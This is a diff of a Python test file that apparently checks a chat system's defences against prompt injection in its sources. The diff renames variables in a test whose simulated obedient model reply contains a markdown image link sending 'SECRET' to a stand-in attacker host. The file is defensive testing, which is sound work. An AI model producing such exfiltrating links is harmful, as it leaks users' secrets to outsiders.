@@ -132,7 +132,7 @@ class Turn:
     @property
     def prompt(self) -> str:
         """What the model was told of the sources."""
-        (call,) = self.model.asked
+        (call,) = self.model.calls
         assert [message.role for message in call.messages] == ["system", "user"]
         return call.messages[1].text
 
@@ -185,11 +185,11 @@ async def test_the_fence_holds_and_the_model_is_told_nothing_that_cannot_be_seen
 @pytest.mark.parametrize("name", ATTACKS)
 async def test_a_model_that_obeys_makes_no_source_and_no_link(turn_over: Any, name: str) -> None:
     turn = turn_over(name)
-    said = (
+    conversation = (
         f"As it says: {ATTACKS[name][:5000]}\n\nMore at #ref:zz99 and #ref:yy88, see"
         f" ![x]({EVIL}?q=SECRET) [y]({EVIL})."
     )
-    events = await turn.run(said)
+    events = await turn.run(conversation)
     end = events[-1]
     assert isinstance(end, StreamEnd)
     verdicts = {cited.marker.lower(): cited.verdict for cited in end.citations}
